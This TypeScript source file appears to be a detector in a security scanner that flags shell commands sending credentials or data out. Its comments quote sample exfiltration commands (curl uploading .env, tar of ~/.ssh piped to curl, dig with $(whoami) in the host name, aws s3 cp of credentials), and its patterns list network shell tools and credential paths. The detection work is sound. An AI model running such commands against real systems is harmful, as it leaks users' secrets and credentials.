import type { DetectorMatch } from '../../detector.js';
import { resolvePath } from '../args/path-shape.js';
import { CREDENTIAL_PATHS, isTemplateEnv, matchSensitive } from '../args/sensitive-paths.js';
import { MAX_MATCHES } from './find-phrases.js';
import { matchesIn } from './regex-matches.js';
import { SENSITIVE_PATH } from './sensitive-data.js';

/**
 * Shell commands that send data out: a network client in the same command line as a credential
 * file (`curl --data-binary @.env https://...`, `tar c ~/.ssh | curl -T - ...`), an environment
 * dump piped to one, a DNS lookup whose host name carries data (`dig $(whoami).x.example`), a
 * browser script that reads cookies or storage and makes a request, a credential file or home
 * directory copied to cloud storage (`aws s3 cp ~/.aws/credentials s3://...`, `rclone copy ~ x:`),
 * or a repository pushed whole to a remote added in the same line.
 */

/**
 * Where a command starts: line start, after a pipe or separator, inside `$(`, after sudo or
 * VAR=value. Linear on any text: the blanks after a start stay on its line (a later line has its
 * own `^`) and option and value words stop at a shell operator, so no start reads on over the
 * text every later start reads again (`\n` or `&a=` repeated a megabyte long was quadratic).
 */
const AT_COMMAND = String.raw`(?:^|[;&|\x60]|\$\()[^\S\r\n\u2028\u2029]*(?:sudo\s+(?:-[^\s;&|\x60]+\s+)*)?(?:[A-Za-z_]\w*=[^\s;&|\x60]*\s+)*`;
const SENDER = new RegExp(
  `${AT_COMMAND}(?:curl|wget|nc|ncat|netcat|socat|scp|sftp|rsync|ftp|tftp|telnet|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\\b|\\/dev\\/(?:tcp|udp)\\/`,
  'im',
);
const ENV_DUMP = /\b(?:env|printenv|set|export\s+-p)\s*\|/;
/** Browser scripts (puppeteer, playwright) that read cookies or storage and make a request. */
const BROWSER_STORAGE = /\bdocument\.cookie\b|\b(?:localStorage|sessionStorage|indexedDB)\b/;
const BROWSER_REQUEST =
  /\bfetch\s*\(|XMLHttpRequest|sendBeacon|\.src\s*=|\bnew\s+Image\b|\baxios\b|\$\.(?:get|post|ajax)\b|window\.location\s*=|location\.href\s*=/;
const DNS_LOOKUP = new RegExp(
  `${AT_COMMAND}(?:nslookup|dig|host|drill|ping)\\s+(?:[-+][^\\s;&|\\x60]+\\s+)*([^\\s;|&<>]+)`,
  'gim',
);
const DNS_TOOL = /\b(?:nslookup|dig|host|drill|ping)\b/;
const DNS_TOOL_ANY_CASE = new RegExp(DNS_TOOL.source, 'i');
/** A command line is at most this long; longer values are scripts, read line by line. */
const MAX_LINE = 4000;

/**
 * Cloud storage copies: the command, and how its destination is written. The source is what
 * stands before the first remote; `az storage ... upload` names no remote, so any word counts.
 * Every command holds a literal of COMMAND_UPLOAD_TRIGGERS (exfiltration.ts): `s3://`, `gs://`,
 * `az storage`, the whole words `rclone` and `azcopy`.
 */
const CLOUD_COPIES: readonly { readonly command: RegExp; readonly remote: RegExp | null }[] = [
  { command: /\baws\s+(?:\S+\s+){0,6}?s3\s+(?:cp|sync|mv)\s/, remote: /^s3:\/\//i },
  {
    command: /\b(?:gsutil\s+(?:-\S+\s+)*(?:cp|rsync|mv)|gcloud\s+storage\s+(?:cp|rsync|mv))\s/,
    remote: /^gs:\/\//i,
  },
  // A remote is `name:path` (`:backend:path` on the fly); one letter before `:` is a Windows drive.
  { command: /\brclone\s+(?:-\S+\s+)*(?:copy|copyto|sync|move|moveto)\s/, remote: /^:?[\w][\w.-]+:/ },
  { command: /\bazcopy\s+(?:copy|cp|sync)\s/, remote: /^https:\/\//i },
  { command: /\baz storage\s+(?:blob|file)\s+(?:upload|upload-batch)\s/, remote: null },
];
/** Sources a copy to cloud storage should never take: a home directory, its personal folders, key stores. */
const PERSONAL_SOURCE =
  /^(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|\/home\/[\w.-]+|\/Users\/[\w.-]+|\/root)(?:[/\\](?:Documents|Desktop|Downloads|Pictures|Library|Mail|\.ssh|\.aws|\.gnupg|\.kube|\.config|\.docker|\.password-store))?[/\\]?$|\.kdbx$/i;
const CLOUD_GATE = /s3:\/\/|gs:\/\/|\brclone\b|\bazcopy\b|az storage/i;

function sensitiveSource(word: string): boolean {
  if (PERSONAL_SOURCE.test(word)) return true;
  const { path, rooted } = resolvePath(word);
  return matchSensitive(CREDENTIAL_PATHS, path, rooted) !== null && !isTemplateEnv(path);
}

/** The source a cloud copy in `pipeline` uploads, when it is personal or a credential (`-` reads what is piped in). */
function cloudUploadSource(pipeline: string): string | null {
  for (const { command, remote } of CLOUD_COPIES) {
    const m = command.exec(pipeline);
    if (!m) continue;
    const words = pipeline.slice(m.index + m[0].length).split(/\s+/);
    const end = remote ? words.findIndex((word) => remote.test(word.replace(/^["']/, ''))) : words.length;
    if (end < 0) continue;
    const sources = words.slice(0, end).map((word) => word.replace(/^["']|["']$/g, ''));
    if (sources.includes('-')) sources.push(...pipeline.slice(0, m.index).split(/\s+/));
    const source = sources.find((word) => word !== '' && !word.startsWith('-') && sensitiveSource(word));
    if (source) return source;
  }
  return null;
}

/**
 * A remote added and the whole repository (`--all`, `--mirror`) pushed to it in one line, or
 * pushed whole to a URL: every branch leaves for a place the project never pushed to.
 */
const REMOTE_ADD = /\bgit\s+(?:-C\s+\S+\s+)?remote\s+add\s+(?:-\S+\s+)*([\w.-]+)\s/g;
const PUSH_ALL = /\bgit\s+(?:-C\s+\S+\s+)?push\s+([^;&|\n]*)/g;

function pushesEverything(line: string): boolean {
  const added = new Set<string>();
  for (const m of matchesIn(REMOTE_ADD, line)) added.add(m[1] ?? '');
  for (const m of matchesIn(PUSH_ALL, line)) {
    const words = (m[1] ?? '').split(/\s+/);
    if (!words.includes('--all') && !words.includes('--mirror')) continue;
    const target = words.find((word) => word !== '' && !word.startsWith('-'));
    if (target && (added.has(target) || /^(?:https?|ssh|git):\/\/|^[\w.-]+@[\w.-]+:/.test(target)))
      return true;
  }
  return false;
}

/** The host name carries data: command output substituted into it, or a long encoded label. */
function hostCarriesData(host: string): boolean {
  if (/\$\(|`[^`]+`|\$\{?[A-Za-z_]/.test(host)) return true;
  return (
    host.split('.').some((label) => label.length >= 20 && /^[0-9a-f]+$/i.test(label)) ||
    host.split('.').some((label) => label.length >= 32 && /\d/.test(label) && /[a-z]/i.test(label))
  );
}

/**
 * What the whole text holds. A command or line holds a match of SENDER, BROWSER_STORAGE or
 * DNS_LOOKUP only if the whole text does (each starts at a line start, a separator or a word
 * boundary, and the pieces end at a separator or a line break), so lines skip the tests the
 * whole text failed.
 */
interface TextSigns {
  readonly sender: boolean;
  readonly dns: boolean;
  readonly browser: boolean;
  /** A cloud copy tool or address (CLOUD_GATE). */
  readonly cloud: boolean;
  /** `--all` or `--mirror`, which a whole-repository push needs. */
  readonly pushAll: boolean;
}

/** Copies of personal data to cloud storage, and whole-repository pushes to a new remote. */
function storageMatches(line: string, span: DetectorMatch, out: DetectorMatch[], signs: TextSigns): void {
  for (const pipeline of signs.cloud ? line.split(/&&|\|\||;/) : []) {
    const source = cloudUploadSource(pipeline);
    if (!source) continue;
    out.push({ ...span, detail: `${source} copied to cloud storage` });
    return;
  }
  if (signs.pushAll && pushesEverything(line)) {
    out.push({ ...span, detail: 'whole repository pushed to a new remote' });
  }
}

function lineMatches(line: string, offset: number, out: DetectorMatch[], signs: TextSigns): void {
  const trimmedStart = line.length - line.trimStart().length;
  const span = { start: offset + trimmedStart, end: offset + line.trimEnd().length };
  // Judged per command (a pipeline), so `curl .../setup.sh | sh && cp .env.example .env` stays clean.
  for (const command of signs.sender ? line.split(/&&|\|\||;/) : []) {
    if (!SENDER.test(command)) continue;
    const file = SENSITIVE_PATH.exec(command);
    if (file) out.push({ ...span, detail: `network command sends ${file[0]}` });
    else if (ENV_DUMP.test(command))
      out.push({ ...span, detail: 'environment variables piped to a network command' });
    else continue;
    break;
  }
  // Front-end code reads a token for its own API; sending storage to an absolute URL is the exfil.
  if (signs.browser && BROWSER_STORAGE.test(line) && BROWSER_REQUEST.test(line) && /https?:\/\//.test(line)) {
    out.push({ ...span, detail: 'script sends browser cookies or storage' });
  }
  storageMatches(line, span, out, signs);
  if (!signs.dns) return;
  for (const m of matchesIn(DNS_LOOKUP, line)) {
    if (hostCarriesData(m[1] ?? '')) out.push({ ...span, detail: 'DNS lookup with data in the host name' });
  }
}

/** Command lines in `text` that send credentials or data out. */
export function findCommandExfiltration(text: string): DetectorMatch[] {
  const sender = SENDER.test(text);
  // The gate wants a lowercase lookup tool (DNS_TOOL); DNS_LOOKUP itself ignores case, so lines
  // skip it only when no lookup tool is named in any case.
  const cloud = CLOUD_GATE.test(text);
  const pushAll = text.includes('--all') || text.includes('--mirror');
  if (!sender && !cloud && !pushAll && !DNS_TOOL.test(text) && !BROWSER_STORAGE.test(text)) return [];
  const signs: TextSigns = {
    sender,
    dns: DNS_TOOL_ANY_CASE.test(text),
    browser: BROWSER_STORAGE.test(text),
    cloud,
    pushAll,
  };
  const out: DetectorMatch[] = [];
  let offset = 0;
  for (const line of text.split('\n')) {
    if (line.length <= MAX_LINE) lineMatches(line, offset, out, signs);
    offset += line.length + 1;
    if (out.length >= MAX_MATCHES) break;
  }
  // One finding per line, even when a line both uploads a file and does a lookup.
  return out.filter((m, i) => i === 0 || m.start !== out[i - 1]?.start);
}
